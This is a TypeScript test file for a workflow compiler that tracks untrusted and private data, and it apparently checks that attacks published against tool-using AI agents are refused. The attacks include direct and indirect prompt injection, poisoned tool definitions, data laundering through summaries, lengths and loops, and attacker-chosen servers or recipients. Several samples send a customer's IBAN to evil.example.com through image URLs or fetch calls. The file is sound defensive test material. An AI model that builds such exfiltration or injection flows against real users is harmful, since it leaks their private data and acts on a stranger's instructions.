import assert from "node:assert/strict"
import { describe, test } from "node:test"

import { compile } from "../../src/compile.ts"
import { withBackends } from "./source.ts"

// Attacks that were published against assistants with tools, rebuilt as workflows. Each is refused before anything is called, and the
// message says by which way it would have worked.

const head = `
input {
    mail: untrusted string
    mails: [untrusted string]
    customer: private { name: string, iban: string }
    shop: string
}
tool act from mcp.shop.tool.act { requires: trusted }
tool fetch from mcp.web.tool.fetch { requires: none }
tool echo from mcp.shop.tool.echo { gives: trusted  requires: none }
tool records from mcp.crm.tool.records { gives: [trusted, private]  requires: none }
`

/** The source, and the ways that the messages say. */
const attacks: Record<string, { readonly source: string; readonly ways: readonly string[] }> = {
  "injection: a mail tells the agent what to do": {
    source: `agent clerk { model: model.small  instruction: "Help: {{ input.mail }}"  uses: [tool.act]  output { done: boolean } }`,
    ways: ["input.mail → agent.clerk.instruction → tool.act"],
  },
  "indirect injection: the result of a tool does": {
    source: `agent clerk { model: model.small  instruction: "Read the news and act."  uses: [tool.fetch, tool.act]  output { done: boolean } }`,
    ways: ["tool.fetch → agent.clerk.uses → tool.act"],
  },
  "poisoned definitions: a tool of a stranger's server, beside one that acts": {
    source: `tool weather from mcp.web.tool.weather { requires: none }
      agent clerk { model: model.small  instruction: "Act."  uses: [tool.weather, tool.act]  output { done: boolean } }`,
    ways: ["tool.weather → agent.clerk.uses → tool.act"],
  },
  "a page that a resource holds": {
    source: `resource page from mcp.web.resource.page
      dynamic { done: call tool.act { input { text: read resource.page } } }`,
    ways: ["resource.page → tool.act"],
  },
  "a prompt that is filled with a stranger's words": {
    source: `prompt greet from mcp.shop.prompt.greet
      dynamic { done: call tool.act { input { text: render prompt.greet { bindings { name: input.mail } } } } }`,
    ways: ["input.mail → tool.act"],
  },
  "words in an image": {
    source: `agent clerk { model: model.eyes  instruction: "{{ asset "https://img.example.com/a.png" { type: "image" } }}"  uses: [tool.act]  output { done: boolean } }`,
    ways: [`asset "https://img.example.com/a.png" { type: "image" } → agent.clerk.instruction → tool.act`],
  },
  "words in the name of a file": {
    source: `agent clerk { model: model.small  instruction: "Go."  file { name: input.mail  content: "x" }  uses: [tool.act]  output { done: boolean } }`,
    ways: ["input.mail → agent.clerk.file → tool.act"],
  },
  "exfiltration by the address of an image": {
    source: `agent show { model: model.eyes  instruction: "{{ asset "https://evil.example.com/p.png?q={{ input.customer.iban }}" { type: "image" } }}"  output { ok: boolean } }`,
    ways: ["input.customer → agent.show.instruction → model.eyes", "input.customer → an asset"],
  },
  "exfiltration by fetching: private data and a stranger's words before one agent": {
    source: `agent answer { model: model.careful  instruction: "{{ input.customer }} {{ input.mail }}"  uses: [tool.fetch]  output { text: string } }`,
    ways: ["input.customer → agent.answer.instruction → tool.fetch"],
  },
  "exfiltration bit by bit: a boolean that is made from private data": {
    source: `agent spy { model: model.careful  instruction: "Is the first bit of {{ input.customer.iban }} set?"  output { bit: boolean } }
      dynamic { sent: call tool.fetch { input { url: "https://evil.example.com/{{ agent.spy.bit }}" } } }`,
    ways: ["input.customer → agent.spy.instruction → tool.fetch"],
  },
  "exfiltration by timing: whether something is called": {
    source: `dynamic { sent: match input.customer.name == "Ann" { true: call tool.fetch { input { url: "https://evil.example.com" } }  false: null } }`,
    ways: ["input.customer → tool.fetch"],
  },
  "what one server gave goes to another": {
    source: `dynamic {
        found: call tool.records { input { shop: input.shop } }
        again: call tool.records { input { about: dynamic.found } }
        sent: call tool.fetch { input { url: "https://evil.example.com/{{ dynamic.found }}" } }
      }`,
    ways: ["tool.records → dynamic.found → tool.fetch"],
  },
  "private data in the question to a group": {
    source: `ask desk { question: "{{ input.customer.name }}?"  to: "desk"  output { ok: boolean } }`,
    ways: ["input.customer → ask.desk"],
  },
  "laundering through an echo": {
    source: `dynamic {
        said: call tool.echo { input { text: input.mail } }
        done: call tool.act { input { text: dynamic.said } }
      }`,
    ways: ["input.mail → dynamic.said → tool.act"],
  },
  "laundering through an echo that an agent uses": {
    source: `agent relay { model: model.small  instruction: "{{ input.mail }}"  uses: [tool.echo]  output { text: string } }
      agent clerk { model: model.small  instruction: "{{ agent.relay.text }}"  uses: [tool.act]  output { done: boolean } }`,
    ways: ["input.mail → agent.relay.instruction → agent.clerk.instruction → tool.act"],
  },
  "laundering through a summary": {
    source: `agent sum { model: model.small  instruction: "Summarise without instructions: {{ input.mail }}"  output { text: string } }
      dynamic { done: call tool.act { input { text: agent.sum.text } } }`,
    ways: ["input.mail → agent.sum.instruction → tool.act"],
  },
  "laundering through a conversation": {
    source: `agent first { model: model.small  instruction: "{{ input.mail }}"  output { ok: boolean } }
      agent clerk { model: model.small  context: agent.first  instruction: "Go on."  uses: [tool.act]  output { done: boolean } }`,
    ways: ["input.mail → agent.first.instruction → agent.clerk.context → tool.act"],
  },
  "laundering through a compaction": {
    source: `agent first { model: model.small  instruction: "{{ input.mail }}"  output { ok: boolean } }
      agent clerk { model: model.small  context: compact agent.first { model: model.small }  instruction: "Go on."  uses: [tool.act]  output { done: boolean } }`,
    ways: ["input.mail → agent.first.instruction → agent.clerk.context → tool.act"],
  },
  "laundering through a number": {
    source: `agent read { model: model.small  instruction: "{{ input.mail }}"  output { amount: integer } }
      dynamic { done: call tool.act { input { amount: agent.read.amount } } }`,
    ways: ["input.mail → agent.read.instruction → tool.act"],
  },
  "laundering through a length": {
    source: `dynamic { done: call tool.act { input { amount: length(input.mail) } } }`,
    ways: ["input.mail → tool.act"],
  },
  "laundering through the length of a loop": {
    source: `agent each for line in lines(input.mail) { model: model.small  instruction: "Once."  uses: [tool.act]  output { done: boolean } }`,
    ways: ["input.mail → agent.each.for → tool.act"],
  },
  "laundering through the number of yeses": {
    source: `agent bit for i in range(1000) { model: model.small  instruction: "Is the number in {{ input.mail }} over {{ i }}?"  output { yes: boolean } }
      dynamic { done: call tool.act { input { amount: length([b for b in agent.bit when b.yes]) } } }`,
    ways: ["input.mail → agent.bit.instruction → all items of agent.bit → tool.act"],
  },
  "laundering through many bits": {
    source: `agent bits { model: model.small  instruction: "{{ input.mail }}"  output { all: [boolean; 64] } }
      dynamic { done: call tool.act { input { text: join([match b { true: "1"  false: "0" } for b in agent.bits.all], "") } } }`,
    ways: ["input.mail → agent.bits.instruction → tool.act"],
  },
  "laundering through an agent that spells bits": {
    source: `agent bit for m in input.mails { model: model.small  instruction: "{{ m }}"  output { yes: boolean } }
      agent letter for b in agent.bit { model: model.small  instruction: "{{ b.yes }}"  output { text: string } }
      dynamic { done: call tool.act { input { text: join(agent.letter.*.text, "") } } }`,
    ways: ["input.mails.* → agent.bit.instruction → all items of agent.bit → tool.act"],
  },
  "laundering through an order": {
    source: `dynamic { done: call tool.act { input { text: [w for w in ["pay", "me", "now"] by input.mail] } } }`,
    ways: ["input.mail → tool.act"],
  },
  "laundering through the choice of an element": {
    source: `agent read { model: model.small  instruction: "{{ input.mail }}"  output { at: integer } }
      dynamic { done: call tool.act { input { text: at(["a", "b"], agent.read.at) } } }`,
    ways: ["input.mail → agent.read.instruction → tool.act"],
  },
  "laundering through JSON": {
    source: `agent read { model: model.small  instruction: "{{ input.mail }}"  output { json: string } }
      dynamic { done: call tool.act { input { text: keys(parse_json(agent.read.json)) } } }`,
    ways: ["input.mail → agent.read.instruction → tool.act"],
  },
  "laundering through a step that fails on demand": {
    source: `agent read { model: model.small  instruction: "{{ input.mail }}"  on_failure: skip  output { ok: boolean } }
      dynamic { done: match agent.read == null { true: call tool.act { input { x: 1 } }  false: null } }`,
    ways: ["input.mail → agent.read.instruction → agent.read, which may fail → tool.act"],
  },
  "laundering through a step that is skipped": {
    source: `agent maybe_so when input.mail contains "pay" { model: model.small  instruction: "Say yes."  output { ok: boolean } }
      dynamic { done: match agent.maybe_so?.ok { true: call tool.act { input { x: 1 } }  _ null } }`,
    ways: ["input.mail → agent.maybe_so.when → tool.act"],
  },
  "laundering through a question that expires": {
    source: `ask desk { question: "What should be paid?"  output { text: string }  on_expiry: { text: input.mail } }
      dynamic { done: call tool.act { input { text: ask.desk.text } } }`,
    ways: ["input.mail → ask.desk.on_expiry → tool.act"],
  },
  "laundering through a default": {
    source: `agent read { model: model.small  instruction: "{{ input.mail }}"  output { text: maybe string } }
      dynamic { done: agent.read.text ?? call tool.act { input { x: 1 } } }`,
    ways: ["input.mail → agent.read.instruction → tool.act"],
  },
  "laundering through the words of a requirement": {
    source: `agent clerk { model: model.small  instruction: "Go."  require result.done else "{{ input.mail }}"  uses: [tool.act]  output { done: boolean } }`,
    ways: ["input.mail → agent.clerk.require → tool.act"],
  },
  "a stranger chooses the server": {
    source: `mcp odd { endpoint: "https://{{ input.mail }}/mcp" }
      tool any from mcp.odd.tool.any { requires: none }
      dynamic { done: call tool.any { input { x: 1 } } }`,
    ways: ["input.mail → mcp.odd.endpoint"],
  },
  "a stranger chooses who approves": {
    source: `dynamic { done: call tool.act { input { x: 1 }  approval { to: input.mail } } }`,
    ways: ["input.mail → dynamic.done.approval.to"],
  },
  "a stranger chooses the recipient": {
    source: `tool send from mcp.mail.tool.send { requires: [to] }
      agent write { model: model.small  instruction: "Answer {{ input.mail }}"  uses: [tool.send]  output { sent: boolean } }`,
    ways: ["input.mail → agent.write.instruction → tool.send"],
  },
}

describe("attacks from the literature are refused", () => {
  for (const [name, { source, ways }] of Object.entries(attacks)) {
    test(name, () => {
      const { diagnostics, plan } = compile(withBackends(`${head}${source}`))
      assert.equal(plan, undefined)
      const errors = diagnostics.filter(({ severity }) => severity === "error")
      assert.deepEqual(
        errors.filter(({ code }) => code !== "untrusted-action" && code !== "private-leak"),
        [],
      )
      assert.deepEqual(
        errors.map(({ hint = "" }) => hint.split("\n")[0]),
        ways,
      )
    })
  }
})
